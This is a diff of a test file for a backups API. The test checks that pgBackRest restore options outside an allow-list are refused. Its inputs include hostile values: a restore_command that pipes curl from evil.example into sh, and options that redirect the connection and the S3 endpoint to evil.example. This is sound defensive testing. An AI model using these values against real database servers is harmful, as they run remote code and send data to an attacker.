@@ -132,14 +132,14 @@ describe('backups API admission against a real API server', () => {
 
   it('refuses restore options outside the allow-list, naming the option', async () => {
     for (const option of [
-      '--stanza=x',
-      '--target-action=pause',
-      // pgBackRest reads a unique prefix as the whole name: a deny-list of names misses these.
-      '--target-act=pause',
-      '--repo=2',
-      '--pg1-path /x',
       '--recovery-option=restore_command=curl evil.example | sh',
       '--recovery-option=primary_conninfo=host=evil.example',
+      // pgBackRest reads a unique prefix as the whole name: a deny-list of names misses these.
+      '--target-act=pause',
+      '--stanza=x',
+      '--target-action=pause',
+      '--repo=2',
+      '--pg1-path /x',
       '--repo1-s3-endpoint=evil.example',
       '--config=/tmp/evil.conf',
       '--archive-mode=off',
